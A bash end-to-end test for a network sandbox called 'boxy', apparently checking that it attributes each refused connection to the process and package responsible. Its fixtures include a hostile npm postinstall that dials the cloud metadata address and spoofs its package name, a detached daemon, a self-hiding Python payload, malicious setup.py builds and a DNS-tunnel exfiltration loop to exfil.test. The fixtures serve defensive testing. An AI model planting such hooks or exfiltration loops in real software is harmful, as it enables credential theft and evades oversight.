#!/bin/bash
# tests/e2e/attrib.sh — who did it (doc/attribution.md): every refused connection,
# DNS query and connection names the process that made it and, when a package
# manager ran it, the package.
#
# A real `npm install` of a local tarball whose postinstall dials the metadata
# address must be named — package, version, lifecycle event — at the end of the
# run, in the audit log, `boxy show` (text and --json), the store, the net-log,
# `boxy watch` and `boxy top`; a python process is named by its command line; a
# process that sets npm_package_name itself only "claims" it; a child that lies
# under its package's script is still its package's; a payload that makes itself
# not dumpable is named all the same; a query and a connection from a process
# that exits at once are "unknown" or its own, never another's; a pip build is
# named by its package; --no-attribution reads nothing; the daemon's log says
# what the session's worker cost. Then what issue 15 waits
# for: a bumped package that phones a new host is new since the last run, in
# `boxy diff` and in `boxy profile learn`'s comments.
#
# Inside the hermetic test network (tests/lib/testnet.sh), as the test user, with
# the suite's own daemon; npm installs only local tarballs (--offline).
set -u
here=$(cd "$(dirname "$0")/.." && pwd)
. "$here/lib/harness.sh"
. "$here/lib/testnet.sh"
harness_locate
[ "${BOXY_TESTNET_INSIDE:-}" = 1 ] || harness_as_test_user "$0" "$@"
testnet_enter "$0" "$@"
testnet_setup
tn_probe
for t in npm node python3 sqlite3 tmux; do
	command -v "$t" >/dev/null || harness_die "$t is not installed"
done

DB=$TN/state/boxy/sessions.db
NPM=(npm install --no-audit --no-fund --offline --no-update-notifier)
# The newest session's full id (ps prints 8 digits; the store's rows hold all 16).
last_id() { sqlite3 "$DB" 'SELECT id FROM sessions ORDER BY started_ms DESC LIMIT 1'; }
sql() { sqlite3 "$DB" "$1" 2>&1; }

# pack DIR: npm pack DIR's package.json and files into DIR/NAME-VERSION.tgz.
pack() { (cd "$1" && tn_user npm pack --silent >/dev/null 2>&1); }

## ---- the hostile package ------------------------------------------------------------------
# evil-pkg@1.2.3's postinstall: node evil.js, which dials the metadata address (refused),
# starts a child that says it is innocent and dials port 81, and leaves a daemon behind
# (reparented to boxy-init when evil.js exits) that says so too and dials port 82; the
# script then waits a moment so the daemon has time before npm ends the session.
E=$TN/pkg/evil
mkdir -p "$E"
cat >"$E/package.json" <<'EOF'
{"name": "evil-pkg", "version": "1.2.3", "scripts": {"postinstall": "node evil.js && sleep 2"}}
EOF
cat >"$E/evil.js" <<'EOF'
const net = require('net'), cp = require('child_process');
const liar = {...process.env, npm_package_name: 'innocent', npm_package_version: '9.9.9',
              npm_lifecycle_event: 'postinstall'};
const s = net.connect(80, '169.254.169.254');
s.on('error', () => {
  cp.spawnSync(process.execPath, ['-e',
    "require('net').connect(81, '169.254.169.254').on('error', () => {})"], {env: liar});
  cp.spawn(process.execPath, ['-e',
    "const go = () => process.ppid === 1 ? require('net').connect(82, '169.254.169.254')" +
    ".on('error', () => {}) : setTimeout(go, 20); go();"],
    {env: liar, detached: true, stdio: 'ignore'}).unref();
});
EOF
pack "$E"
W=$TN/cases/npm
mkdir -p "$W" && cp "$E/evil-pkg-1.2.3.tgz" "$W/" &&
	echo '{"name": "proj", "version": "1.0.0"}' >"$W/package.json" && chmod -R a+rwX "$W" "$TN/pkg"
C=$W
(cd "$W" && tn_boxy run --profile node --audit-log "$W/audit" --net-log "$W/netlog" -- \
	"${NPM[@]}" ./evil-pkg-1.2.3.tgz >"$W/out" 2>"$W/err" </dev/null)
RC=$?
ID=$(last_id)
if [ "$RC" -eq 0 ] && grep -q "added 1 package" "$W/out" &&
	grep -E '169\.254\.169\.254:80 .*link-local.* by postinstall of evil-pkg@1\.2\.3 \(node, pid [0-9]+\)' \
		"$W/err" >/dev/null; then
	ok "npm: the end of the run names the refusal's package, version and script"
else
	fail_case "npm: the end of the run names the refusal's package, version and script" \
		"want '169.254.169.254:80 … by postinstall of evil-pkg@1.2.3 (node, pid N)' on stderr"
fi

if grep -F '"subject":"tcp://169.254.169.254:80"' "$W/audit" |
	grep -F '"package":"evil-pkg","version":"1.2.3","script":"postinstall","claimed":false' |
	grep -qE '"process":\{"pid":[0-9]+,"comm":"node","argv0":"node","cmdline":"node evil.js"'; then
	ok "npm: the audit log's refusal line names the process and its package"
else
	fail_case "npm: the audit log's refusal line names the process and its package" \
		"want a process object with evil-pkg 1.2.3 postinstall on the :80 refusal"
fi

# What the worker spent is in the daemon's log at the session's end (doc/attribution.md).
cost="session ${ID:0:8}: attribution's worker: [1-9][0-9]* look-ups, [0-9]+ µs of CPU \([0-9]+ µs each\)"
for _ in $(seq 1 50); do
	grep -qE "$cost" "$TN/state/boxy/daemon.log" 2>/dev/null && break
	sleep 0.1
done
if grep -qE "$cost" "$TN/state/boxy/daemon.log" 2>/dev/null; then
	ok "npm: the daemon's log says how many look-ups the session's worker made, and their CPU"
else
	not_ok "npm: the daemon's log says how many look-ups the session's worker made, and their CPU"
	diag "$(grep -F "${ID:0:8}" "$TN/state/boxy/daemon.log" 2>&1 | tail -n 5)"
fi

show=$(tn_boxy show "$ID" 2>&1)
if grep -qE '^  postinstall of evil-pkg@1\.2\.3 +[0-9]+ +[1-9]' <<<"$show" &&
	grep -qF '→ 169.254.169.254:80' <<<"$show" &&
	grep -qE '169\.254\.169\.254:80 .* by postinstall of evil-pkg@1\.2\.3 \(node, pid' <<<"$show"; then
	ok "npm: boxy show groups the session by package and names who was refused"
else
	not_ok "npm: boxy show groups the session by package and names who was refused"
	diag "$show"
fi

json=$(tn_boxy show --json "$ID" 2>&1)
if python3 - "$json" <<'EOF'
import json, sys
d = json.loads(sys.argv[1])
deny = [c for c in d["connections"] if c["verdict"] == "deny" and c["port"] == 80]
assert deny and deny[0]["package"] == "evil-pkg", deny
c = deny[0]
assert (c["package_version"], c["package_script"], c["package_claimed"]) == ("1.2.3", "postinstall", 0), c
assert c["comm"] == "node" and c["pid"] > 0 and c["cmdline"] == "node evil.js", c
p = [p for p in d["packages"] if p["package"] == "evil-pkg"]
assert p and p[0]["denied"] >= 1 and p[0]["script"] == "postinstall", d["packages"]
r = [r for r in d["refusals"] if r["subject"] == "169.254.169.254:80"]
assert r and r[0]["package"] == "evil-pkg" and r[0]["package_version"] == "1.2.3", r
EOF
then
	ok "npm: boxy show --json has the package on the connection, the refusal and in packages"
else
	not_ok "npm: boxy show --json has the package on the connection, the refusal and in packages"
	diag "$(head -c 3000 <<<"$json")"
fi

row=$(sql "SELECT package, package_version, package_script, package_claimed, comm FROM connections
	WHERE session_id = '$ID' AND verdict = 'deny' AND port = 80")
if [ "$row" = "evil-pkg|1.2.3|postinstall|0|node" ]; then
	ok "npm: the store's connection row names the package (MIGRATION_ATTRIBUTION's columns)"
else
	not_ok "npm: the store's connection row names the package (MIGRATION_ATTRIBUTION's columns)"
	diag "row: $row"
fi

if python3 - "$W/netlog" <<'EOF'
import json, sys
d = json.load(open(sys.argv[1]))
assert d["version"] == 3
f = d["conn_fields"]
s = d["strings"]
rows = [dict(zip(f, c)) for c in d["conns"]]
r = [r for r in rows if r["port"] == 80 and r["verdict"] == "deny"][0]
assert s[r["package"]] == "evil-pkg" and s[r["version"]] == "1.2.3" and s[r["script"]] == "postinstall"
assert r["pid"] > 0 and s[r["comm"]] == "node" and r["claimed"] is False
assert d["query_fields"][:4] == ["t_ms", "name", "type", "verdict"]
EOF
then
	ok "npm: the net-log (version 3) names the package on the connection"
else
	not_ok "npm: the net-log (version 3) names the package on the connection"
	diag "$(head -c 2000 "$W/netlog")"
fi

# The child that lied under evil's own script is evil's: the script npm ran is its frame.
row=$(sql "SELECT package, package_claimed FROM connections WHERE session_id = '$ID' AND port = 81")
if [ "$row" = "evil-pkg|0" ]; then
	ok "a child that sets npm_package_name under its package's script is still that package's"
else
	not_ok "a child that sets npm_package_name under its package's script is still that package's"
	diag "port 81 row: '$row' (want evil-pkg|0)"
fi
# The daemon it left behind has no package manager above it: its word alone, a claim.
row=$(sql "SELECT package, package_version, package_claimed FROM connections
	WHERE session_id = '$ID' AND port = 82")
if [ "$row" = "innocent|9.9.9|1" ] &&
	tn_boxy show --events "$ID" | grep -F '169.254.169.254:82' |
	grep -qE 'by node \(pid [0-9]+\) claims postinstall of innocent@9\.9\.9'; then
	ok "a daemon that sets npm_package_name itself is shown as claiming it"
else
	not_ok "a daemon that sets npm_package_name itself is shown as claiming it"
	diag "port 82 row: '$row' (want innocent|9.9.9|1)" \
		"$(tn_boxy show --events "$ID" | grep -F ':82')"
fi

## ---- boxy top and boxy watch ------------------------------------------------------------------
# top: the newest session is the install above; Enter opens its record (from the store).
TM="$TN/tmux.sock"
tm() { tn_user tmux -S "$TM" "$@"; }
tm -f /dev/null new-session -d -s top -x 160 -y 50 \
	"cd '$W' && env HOME='$TN/home' XDG_RUNTIME_DIR='$TN/run' XDG_STATE_HOME='$TN/state' TERM=xterm-256color '$BOXY' top; sleep 30"
shown=no
for _ in $(seq 1 50); do
	tm capture-pane -p -t top | grep -qF "${ID:0:8}" && break
	sleep 0.1
done
tm send-keys -t top Home
sleep 0.2
tm send-keys -t top Enter
for _ in $(seq 1 50); do
	if tm capture-pane -p -t top | grep -q "PACKAGES" &&
		tm capture-pane -p -t top | grep -qE 'postinstall of evil-pkg@1\.2\.3 +[0-9]+ +[1-9]' &&
		tm capture-pane -p -t top | grep -qE '169\.254\.169\.254:80 .* by postinstall of evil-pkg'; then
		shown=yes
		break
	fi
	sleep 0.1
done
if [ "$shown" = yes ]; then
	ok "top: the session's record groups it by package and names who was refused"
else
	not_ok "top: the session's record groups it by package and names who was refused"
	tm capture-pane -p -t top | diag "$(cat)"
fi
tm kill-server 2>/dev/null

# watch: the same install detached, the postinstall waiting first so that a watcher is there.
WW=$TN/cases/npm-watch
mkdir -p "$WW/pkg" && cp "$E/package.json" "$E/evil.js" "$WW/pkg/" &&
	sed -i 's/"node evil.js && sleep 2"/"sleep 2 \&\& node evil.js \&\& sleep 1"/' "$WW/pkg/package.json" &&
	chmod -R a+rwX "$WW" && pack "$WW/pkg" && cp "$WW/pkg/evil-pkg-1.2.3.tgz" "$WW/" &&
	echo '{"name": "proj", "version": "1.0.0"}' >"$WW/package.json" && chmod -R a+rwX "$WW"
C=$WW
WID=$(cd "$WW" && tn_boxy run -d --profile node -- "${NPM[@]}" ./evil-pkg-1.2.3.tgz 2>"$WW/err")
: >"$WW/out"
if [ -n "$WID" ]; then
	(tn_boxy watch "$WID" | grep ' deny ' >"$WW/out") &
	wpid=$!
	for _ in $(seq 1 300); do kill -0 "$wpid" 2>/dev/null || break; sleep 0.1; done
	kill "$wpid" 2>/dev/null
	wait "$wpid" 2>/dev/null
fi
if grep -qE '169\.254\.169\.254:80 .* by postinstall of evil-pkg@1\.2\.3 \(node, pid [0-9]+\)' "$WW/out"; then
	ok "watch: the RECENT line of the refusal names its package"
else
	fail_case "watch: the RECENT line of the refusal names its package" \
		"want 'by postinstall of evil-pkg@1.2.3 (node, pid N)' on the deny line"
fi


## ---- a command without a package, a liar, a payload not dumpable -----------------------------
cat >"$TN/fetch.py" <<'EOF'
import socket, sys
try:
    socket.create_connection(("169.254.169.254", int(sys.argv[1])), timeout=3)
except OSError as e:
    print("refused", e)
EOF
cat >"$TN/hidden.py" <<'EOF'
import ctypes, socket
ctypes.CDLL(None).prctl(4, 0, 0, 0, 0)      # PR_SET_DUMPABLE 0: no ptrace, no /proc for others
print("dumpable", open("/proc/self/status").read().count("x"))
try:
    socket.create_connection(("169.254.169.254", 84), timeout=3)
except OSError as e:
    print("refused", e)
EOF
chmod a+r "$TN/fetch.py" "$TN/hidden.py"
# give CASE FILE...: a case's work directory, holding those files of $TN.
give() {
	local c=$1
	shift
	mkdir -p "$TN/cases/$c" && for f in "$@"; do cp "$TN/$f" "$TN/cases/$c/"; done
	chmod -R a+rwX "$TN/cases/$c"
}
give py fetch.py
give liar fetch.py
give hidden hidden.py
give off fetch.py
run_case py --net public -- python3 fetch.py 85
PY=$(last_id)
if grep -qE '"subject":"tcp://169.254.169.254:85".*"process":\{"pid":[0-9]+,"comm":"python3","argv0":"python3","cmdline":"python3 fetch.py 85"\}' "$C/audit" &&
	grep -qE '169\.254\.169\.254:85 .* by python3 fetch\.py 85 \(pid [0-9]+\)' "$C/err"; then
	ok "a python process's refusal is named by its command line (no package)"
else
	fail_case "a python process's refusal is named by its command line (no package)" \
		"want the process object and 'by python3 fetch.py 85 (pid N)'"
fi

run_case liar --net public -- env npm_package_name=innocent npm_package_version=9.9.9 \
	npm_lifecycle_event=postinstall python3 fetch.py 86
if grep -F '"subject":"tcp://169.254.169.254:86"' "$C/audit" |
	grep -qF '"package":"innocent","version":"9.9.9","script":"postinstall","claimed":true' &&
	grep -qE ':86 .* by python3 \(pid [0-9]+\) claims postinstall of innocent@9\.9\.9' "$C/err"; then
	ok "the command itself setting npm_package_name only claims the package"
else
	fail_case "the command itself setting npm_package_name only claims the package" \
		"want claimed true and 'claims postinstall of innocent@9.9.9'"
fi

run_case hidden --net public -- python3 hidden.py
if grep -q '^refused' "$C/out" &&
	grep -F '"subject":"tcp://169.254.169.254:84"' "$C/audit" |
	grep -qE '"process":\{"pid":[0-9]+,"comm":"python3","argv0":"python3","cmdline":"python3 hidden.py"'; then
	ok "a payload that makes itself not dumpable is named all the same"
else
	fail_case "a payload that makes itself not dumpable is named all the same" \
		"want the :84 refusal named python3 hidden.py"
fi

## ---- short-lived processes: unknown or their own, never another's ------------------------------
# Twenty processes each ask a refused name, open a non-blocking connection to a
# refused address and exit at once, while a long-lived decoy holds a socket of
# its own: every row is "unknown" or the process that made it.
cat >"$TN/blip.py" <<'EOF'
import socket, sys
s = socket.socket()
s.setblocking(False)
s.connect_ex(("169.254.169.254", 87))
EOF
chmod a+r "$TN/blip.py"
give blip blip.py
run_case blip --net allowlist --allow-host www.example.test -- sh -c '
	python3 -c "import socket,time; s=socket.create_connection((\"www.example.test\",80)); time.sleep(8)" &
	sleep 0.5
	for i in $(seq 1 20); do getent hosts "blip$i.example.test" >/dev/null; python3 blip.py; done
	wait'
BL=$(last_id)
rows=$(sql "SELECT coalesce(comm, 'NULL') || ' ' || coalesce(cmdline, '-') FROM connections
	WHERE session_id = '$BL' AND port = 87
	UNION ALL SELECT coalesce(comm, 'NULL') || ' ' || coalesce(cmdline, '-') FROM resolutions
	WHERE session_id = '$BL' AND name LIKE 'blip%'")
bad=$(grep -vE '^(NULL -|python3 python3 blip\.py|getent getent hosts blip[0-9]+\.example\.test)$' <<<"$rows")
known=$(grep -cvE '^NULL -$' <<<"$rows")
pids_null=$(sql "SELECT count(*) FROM connections WHERE session_id = '$BL' AND port = 87 AND pid IS NULL")
if [ -n "$rows" ] && [ -z "$bad" ] && [ "$pids_null" = 0 ]; then
	ok "20 processes that exit at once: every row is unknown or its own ($known of $(wc -l <<<"$rows") named)"
else
	not_ok "20 processes that exit at once: every row is unknown or its own"
	diag "rows not their own: $bad" "pid NULL (never looked for): $pids_null" "$(head -5 <<<"$rows")"
fi
getent_named=$(sql "SELECT count(*) FROM resolutions WHERE session_id = '$BL' AND name LIKE 'blip%'
	AND comm = 'getent'")
if [ "$getent_named" -ge 1 ]; then
	ok "a refused name's answer waits for its asker to be found: getent is named ($getent_named)"
else
	not_ok "a refused name's answer waits for its asker to be found: getent is named"
	diag "$(sql "SELECT name, pid, comm FROM resolutions WHERE session_id = '$BL'" | head -5)"
fi

## ---- a finding: the DNS tunnel alert names who asked ---------------------------------------------
run_case tunnel --net public -- sh -c 'head -c 300 /dev/urandom >data
	i=0
	for chunk in $(od -An -tx1 -v data | tr -d " \n" | fold -w 60); do
		getent hosts "$chunk.$i.exfil.test" >/dev/null
		i=$((i + 1))
	done'
TID=$(last_id)
if grep -F '"verdict":"alert"' "$C/audit" | grep -F 'exfil.test' |
	grep -qE '"process":\{"pid":[0-9]+,"comm":"getent"' &&
	[ "$(sql "SELECT comm FROM decisions WHERE session_id = '$TID' AND verdict = 'alert'")" = getent ]; then
	ok "a finding (the DNS tunnel alert) names the process that asked, in the audit log and the store"
else
	fail_case "a finding (the DNS tunnel alert) names the process that asked, in the audit log and the store"
fi

## ---- pip builds -----------------------------------------------------------------------------
# evilpy's setup.py dials the metadata address while pip builds it: from a local sdist
# (pip-req-build-*, named by its PKG-INFO) and by name from a directory of archives
# (pip-install-*/namedpy_<hex>/, named by pip).
P=$TN/pkg/py
mkdir -p "$P/evilpy" "$P/namedpy" "$P/dist"
for n in evilpy namedpy; do
	cat >"$P/$n/setup.py" <<EOF
import socket
from setuptools import setup
try:
    socket.create_connection(("169.254.169.254", 88), timeout=3)
except OSError:
    pass
setup(name="$n", version="0.1", py_modules=[])
EOF
	(cd "$P/$n" && python3 setup.py -q sdist -d "$P/dist" >/dev/null 2>&1)
done
chmod -R a+rX "$P"
mkdir -p "$TN/cases/pip" && cp "$P/dist/evilpy-0.1.tar.gz" "$TN/cases/pip/" && cp -r "$P/dist" "$TN/cases/pip/dist"
run_case pip --net public -- sh -c 'python3 -m pip install -q --no-index --no-build-isolation \
	--target t1 ./evilpy-0.1.tar.gz; python3 -m pip install -q --no-index --no-build-isolation \
	--find-links dist --target t2 namedpy'
PIP=$(last_id)
rows=$(sql "SELECT DISTINCT package || '@' || package_version || ' ' || package_script || ' ' || package_claimed
	FROM connections WHERE session_id = '$PIP' AND port = 88 ORDER BY 1")
if grep -qx 'evilpy@0.1 build 0' <<<"$rows" && grep -qx 'namedpy@0.1 build 0' <<<"$rows" &&
	grep -qE ':88 .* by build of (evilpy|namedpy)@0\.1 \(python3, pid [0-9]+\)' "$C/err"; then
	ok "pip: a setup.py that dials out is named by the package pip builds (local sdist and by name)"
else
	fail_case "pip: a setup.py that dials out is named by the package pip builds (local sdist and by name)" \
		"rows: $rows"
fi

## ---- --no-attribution --------------------------------------------------------------------------
run_case off --net public --no-attribution -- python3 fetch.py 89
OFF=$(last_id)
if grep -qF '"subject":"tcp://169.254.169.254:89"' "$C/audit" && ! grep -q '"process"' "$C/audit" &&
	[ "$(sql "SELECT count(*) FROM connections WHERE session_id = '$OFF' AND pid IS NOT NULL")" = 0 ] &&
	! grep -q ' by ' "$C/err"; then
	ok "--no-attribution: nothing is looked for, nothing claims to be (no process anywhere)"
else
	fail_case "--no-attribution: nothing is looked for, nothing claims to be (no process anywhere)"
fi

## ---- since, diff, learn: a bumped package phones a new host -----------------------------------
S=$TN/cases/since
mkdir -p "$S/v1" "$S/v2"
echo '{"name": "bump-pkg", "version": "2.0.0", "scripts": {"postinstall": "node -e 1"}}' >"$S/v1/package.json"
cat >"$S/v2/package.json" <<'EOF'
{"name": "bump-pkg", "version": "2.0.1", "scripts": {"postinstall": "node phone.js"}}
EOF
cat >"$S/v2/phone.js" <<'EOF'
require('http').get('http://www.example.test/hello.txt', r => r.resume()).on('error', () => {});
setTimeout(() => {}, 1000);     // the connection lives a moment (attribution is best effort)
EOF
chmod -R a+rwX "$S"
pack "$S/v1" && pack "$S/v2"
echo '{"name": "proj", "version": "1.0.0"}' >"$S/package.json"
chmod -R a+rwX "$S"
# job VERSION: install bump-pkg.tgz (that version) into a fresh node_modules.
job() {
	cp "$S/$1/bump-pkg-$2.tgz" "$S/bump-pkg.tgz" && chmod a+rw "$S/bump-pkg.tgz"
	rm -rf "$S/node_modules" "$S/package-lock.json"
	(cd "$S" && tn_boxy run --profile node -- "${NPM[@]}" ./bump-pkg.tgz >"$S/$1.out" 2>"$S/$1.err" </dev/null)
}
job v1 2.0.0
SA=$(last_id)
job v2 2.0.1
SB=$(last_id)
C=$S
cp "$S/v2.err" "$S/err"
if grep -qE 'new since the last run: tcp www\.example\.test:80 \(new destination, postinstall of bump-pkg@2\.0\.1' "$S/v2.err" &&
	grep -qE 'new since the last run: postinstall of bump-pkg@2\.0\.1 \(new package with network: tcp www\.example\.test:80' "$S/v2.err"; then
	ok "since: the bump's new destination names its package, and the package with network is new"
else
	fail_case "since: the bump's new destination names its package, and the package with network is new" \
		"want 'tcp www.example.test:80 (new destination, postinstall of bump-pkg@2.0.1' and the package line"
fi

diff=$(tn_boxy diff "$SA" "$SB" 2>&1)
djson=$(tn_boxy diff --json "$SA" "$SB" 2>&1)
if grep -qE 'postinstall of bump-pkg@2\.0\.1 +new package with network' <<<"$diff" &&
	python3 -c 'import json,sys; d=json.loads(sys.argv[1]); assert any(a["kind"] == "package" and "bump-pkg@2.0.1" in a["subject"] for a in d["added"])' "$djson"; then
	ok "diff: the package that now phones out is listed (text and --json)"
else
	not_ok "diff: the package that now phones out is listed (text and --json)"
	diag "$diff"
fi

learned=$(tn_boxy profile learn "$SB" 2>&1)
if grep -qE "# [0-9]+ connections?, first in session ${SB:0:8}, by postinstall of bump-pkg@2\.0\.1" <<<"$learned" &&
	grep -qF '"www.example.test:80"' <<<"$learned"; then
	ok "learn: the entry's comment says which session and which package needed it"
else
	not_ok "learn: the entry's comment says which session and which package needed it"
	diag "$learned"
fi

done_testing
